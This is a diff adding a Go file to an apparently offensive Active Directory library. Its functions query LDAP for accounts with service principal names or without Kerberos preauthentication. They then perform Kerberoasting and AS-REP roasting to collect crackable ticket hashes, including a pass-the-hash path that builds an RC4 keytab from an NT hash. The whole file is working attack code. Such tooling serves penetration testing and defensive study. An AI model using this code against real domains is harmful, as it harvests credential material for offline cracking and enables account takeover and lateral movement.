@@ -0,0 +1,269 @@
+package ldap
+
+import (
+	"encoding/hex"
+	"fmt"
+	"slices"
+	"strconv"
+	"strings"
+
+	krbcrypto "github.com/TheManticoreProject/Manticore/crypto/kerberos"
+	"github.com/TheManticoreProject/Manticore/network/kerberos"
+	"github.com/TheManticoreProject/Manticore/network/ldap/ldap_attributes"
+	goldapv3 "github.com/go-ldap/ldap/v3"
+	krb5client "github.com/jcmturner/gokrb5/v8/client"
+	"github.com/jcmturner/gokrb5/v8/config"
+	"github.com/jcmturner/gokrb5/v8/keytab"
+)
+
+// GetKerberoastableUsers retrieves all enabled user accounts having at least one service principal name.
+//
+// Returns:
+//   - A map where the keys are the sAMAccountNames of the users and the values are slices of strings
+//     containing their service principal names.
+//   - An error if the LDAP query fails.
+func (ldapSession *Session) GetKerberoastableUsers() (map[string][]string, error) {
+	attributes := []string{"sAMAccountName", "servicePrincipalName"}
+
+	query := "(&"
+	// Searching for user accounts
+	query += "(objectCategory=person)(objectClass=user)"
+	// With a service principal name
+	query += "(servicePrincipalName=*)"
+	// Which are not disabled
+	query += fmt.Sprintf("(!(userAccountControl:1.2.840.113556.1.4.803:=%d))", ldap_attributes.UAF_ACCOUNT_DISABLED)
+	// Closing the AND
+	query += ")"
+
+	ldapResults, err := ldapSession.QueryWholeSubtree("", query, attributes)
+	if err != nil {
+		return nil, fmt.Errorf("error querying LDAP: %w", err)
+	}
+
+	usersMap := make(map[string][]string)
+
+	if len(ldapResults) != 0 {
+		for _, entry := range ldapResults {
+			usersMap[entry.GetAttributeValue("sAMAccountName")] = entry.GetEqualFoldAttributeValues("servicePrincipalName")
+		}
+	}
+
+	return usersMap, nil
+}
+
+// GetASREPRoastableUsers retrieves all enabled user accounts that do not require Kerberos preauthentication.
+//
+// Returns:
+//   - A slice of strings containing the sAMAccountNames of the users having the DONT_REQ_PREAUTH flag set.
+//   - An error if the LDAP query fails.
+func (ldapSession *Session) GetASREPRoastableUsers() ([]string, error) {
+	attributes := []string{"sAMAccountName"}
+
+	query := "(&"
+	// Searching for user accounts
+	query += "(objectCategory=person)(objectClass=user)"
+	// Which do not require Kerberos preauthentication
+	query += fmt.Sprintf("(userAccountControl:1.2.840.113556.1.4.803:=%d)", ldap_attributes.UAF_DONT_REQ_PREAUTH)
+	// Which are not disabled
+	query += fmt.Sprintf("(!(userAccountControl:1.2.840.113556.1.4.803:=%d))", ldap_attributes.UAF_ACCOUNT_DISABLED)
+	// Closing the AND
+	query += ")"
+
+	ldapResults, err := ldapSession.QueryWholeSubtree("", query, attributes)
+	if err != nil {
+		return nil, fmt.Errorf("error querying LDAP: %w", err)
+	}
+
+	usernames := []string{}
+	for _, entry := range ldapResults {
+		usernames = append(usernames, entry.GetAttributeValue("sAMAccountName"))
+	}
+
+	return usernames, nil
+}
+
+// Kerberoast requests a service ticket for every kerberoastable user, authenticating with the password or,
+// to pass the hash, with the NT hash of the credentials of the session.
+//
+// Parameters:
+//   - etype: An int32 representing the encryption type to request for the service tickets.
+//
+// Returns:
+//   - A slice of pointers to kerberos.TGSRoastHash objects, one for each user a ticket could be obtained for.
+//   - An error if the enumeration fails or if some tickets could not be requested.
+//
+// Note:
+//
+//	The tickets of all the service principal names of a user are encrypted with the same key, so a single ticket
+//	is requested for each user, for the first of its service principal names the KDC issues a ticket for.
+func (ldapSession *Session) Kerberoast(etype int32) ([]*kerberos.TGSRoastHash, error) {
+	username := ldapSession.credentials.GetUsername()
+	realm := strings.ToUpper(ldapSession.credentials.GetDomain())
+
+	if len(ldapSession.credentials.GetPassword()) != 0 {
+		return ldapSession.kerberoast(etype, func(krb5Conf *config.Config) *krb5client.Client {
+			return krb5client.NewWithPassword(username, realm, ldapSession.credentials.GetPassword(), krb5Conf, krb5client.DisablePAFXFAST(true))
+		})
+	}
+
+	if ldapSession.credentials.CanPassTheHash() {
+		ntHash, err := hex.DecodeString(ldapSession.credentials.GetNTHash())
+		if err != nil {
+			return []*kerberos.TGSRoastHash{}, fmt.Errorf("invalid NT hash: %w", err)
+		}
+		kvno, err := ldapSession.getKeyVersionNumber(username)
+		if err != nil {
+			return []*kerberos.TGSRoastHash{}, err
+		}
+		// The NT hash is the RC4-HMAC key of the account
+		kt, err := kerberos.NewKeytabFromKeys(username, realm, kvno, &krbcrypto.Key{EType: krbcrypto.ETYPE_RC4_HMAC, Value: ntHash})
+		if err != nil {
+			return []*kerberos.TGSRoastHash{}, err
+		}
+		return ldapSession.KerberoastWithKeytab(etype, kt)
+	}
+
+	return []*kerberos.TGSRoastHash{}, fmt.Errorf("a password or an NT hash is required to request service tickets")
+}
+
+// KerberoastWithKeytab requests a service ticket for every kerberoastable user, authenticating as the user of the
+// credentials of the session with the keys of a keytab, such as AES keys from kerberos.NewKeytabFromKeys.
+//
+// Parameters:
+//   - etype: An int32 representing the encryption type to request for the service tickets.
+//   - kt: A pointer to the keytab holding the keys of the user of the session, whose version number must be the
+//     msDS-KeyVersionNumber attribute of the user.
+//
+// Returns:
+//   - A slice of pointers to kerberos.TGSRoastHash objects, one for each user a ticket could be obtained for.
+//   - An error if the enumeration fails or if some tickets could not be requested.
+func (ldapSession *Session) KerberoastWithKeytab(etype int32, kt *keytab.Keytab) ([]*kerberos.TGSRoastHash, error) {
+	username := ldapSession.credentials.GetUsername()
+	realm := strings.ToUpper(ldapSession.credentials.GetDomain())
+
+	// The KDC must answer the AS-REQ with an encryption type the keytab holds a key for
+	etypes := []int32{}
+	for _, entry := range kt.Entries {
+		if !slices.Contains(etypes, entry.Key.KeyType) {
+			etypes = append(etypes, entry.Key.KeyType)
+		}
+	}
+
+	return ldapSession.kerberoast(etype, func(krb5Conf *config.Config) *krb5client.Client {
+		krb5Conf.LibDefaults.DefaultTktEnctypeIDs = etypes
+		return krb5client.NewWithKeytab(username, realm, kt, krb5Conf, krb5client.DisablePAFXFAST(true))
+	})
+}
+
+// getKeyVersionNumber retrieves the msDS-KeyVersionNumber attribute of an account, the version number of its keys.
+func (ldapSession *Session) getKeyVersionNumber(sAMAccountName string) (uint32, error) {
+	query := fmt.Sprintf("(sAMAccountName=%s)", goldapv3.EscapeFilter(sAMAccountName))
+
+	ldapResults, err := ldapSession.QueryWholeSubtree("", query, []string{"msDS-KeyVersionNumber"})
+	if err != nil {
+		return 0, fmt.Errorf("error querying LDAP: %w", err)
+	}
+	if len(ldapResults) == 0 {
+		return 0, fmt.Errorf("no account found with sAMAccountName %s", sAMAccountName)
+	}
+
+	kvno, err := strconv.ParseUint(ldapResults[0].GetAttributeValue("msDS-KeyVersionNumber"), 10, 32)
+	if err != nil {
+		return 0, fmt.Errorf("invalid msDS-KeyVersionNumber: %w", err)
+	}
+	return uint32(kvno), nil
+}
+
+// kerberoast requests a service ticket for every kerberoastable user with the Kerberos client created by
+// newClient from a copy of the Kerberos configuration of the session.
+func (ldapSession *Session) kerberoast(etype int32, newClient func(krb5Conf *config.Config) *krb5client.Client) ([]*kerberos.TGSRoastHash, error) {
+	hashes := []*kerberos.TGSRoastHash{}
+	var errList []string
+
+	usersMap, err := ldapSession.GetKerberoastableUsers()
+	if err != nil {
+		return hashes, fmt.Errorf("error fetching kerberoastable users: %w", err)
+	}
+
+	// Copy the configuration to request the encryption type without changing the one of the session
+	_, sessionKrb5Conf, err := ldapSession.getKerberosConfig()
+	if err != nil {
+		return hashes, err
+	}
+	krb5Conf := *sessionKrb5Conf
+	krb5Conf.LibDefaults.DefaultTGSEnctypeIDs = []int32{etype}
+
+	kerberosClient := newClient(&krb5Conf)
+	defer kerberosClient.Destroy()
+
+	err = kerberosClient.Login()
+	if err != nil {
+		return hashes, fmt.Errorf("error requesting a TGT: %w", err)
+	}
+
+	for username, servicePrincipalNames := range usersMap {
+		var spnErrors []string
+		for _, servicePrincipalName := range servicePrincipalNames {
+			hash, err := kerberos.Kerberoast(kerberosClient, username, servicePrincipalName)
+			if err != nil {
+				spnErrors = append(spnErrors, err.Error())
+				continue
+			}
+			hashes = append(hashes, hash)
+			spnErrors = nil
+			break
+		}
+		if len(spnErrors) > 0 {
+			errList = append(errList, fmt.Sprintf("Error kerberoasting %s: %s", username, strings.Join(spnErrors, ", ")))
+		}
+	}
+
+	if len(errList) > 0 {
+		return hashes, fmt.Errorf("encountered errors: %s", strings.Join(errList, "; "))
+	}
+
+	return hashes, nil
+}
+
+// ASREPRoast requests an AS-REP for every user that does not require Kerberos preauthentication,
+// using the LDAP server as KDC.
+//
+// Parameters:
+//   - etype: An int32 representing the encryption type to request for the AS-REPs.
+//
+// Returns:
+//   - A slice of pointers to kerberos.ASREPRoastHash objects, one for each user an AS-REP could be obtained for.
+//   - An error if the enumeration fails or if some AS-REPs could not be requested.
+func (ldapSession *Session) ASREPRoast(etype int32) ([]*kerberos.ASREPRoastHash, error) {
+	hashes := []*kerberos.ASREPRoastHash{}
+	var errList []string
+
+	usernames, err := ldapSession.GetASREPRoastableUsers()
+	if err != nil {
+		return hashes, fmt.Errorf("error fetching AS-REP roastable users: %w", err)
+	}
+
+	// The KDC is read from the Kerberos configuration of the session, which defaults to the LDAP server
+	_, krb5Conf, err := ldapSession.getKerberosConfig()
+	if err != nil {
+		return hashes, err
+	}
+	kdcAddress, err := kerberos.GetKDCAddress(krb5Conf, ldapSession.credentials.GetDomain())
+	if err != nil {
+		return hashes, err
+	}
+	for _, username := range usernames {
+		hash, err := kerberos.ASREPRoast(kdcAddress, ldapSession.credentials.GetDomain(), username, etype)
+		if err != nil {
+			errList = append(errList, fmt.Sprintf("Error AS-REP roasting %s: %s", username, err))
+			continue
+		}
+		hashes = append(hashes, hash)
+	}
+
+	if len(errList) > 0 {
+		return hashes, fmt.Errorf("encountered errors: %s", strings.Join(errList, "; "))
+	}
+
+	return hashes, nil
+}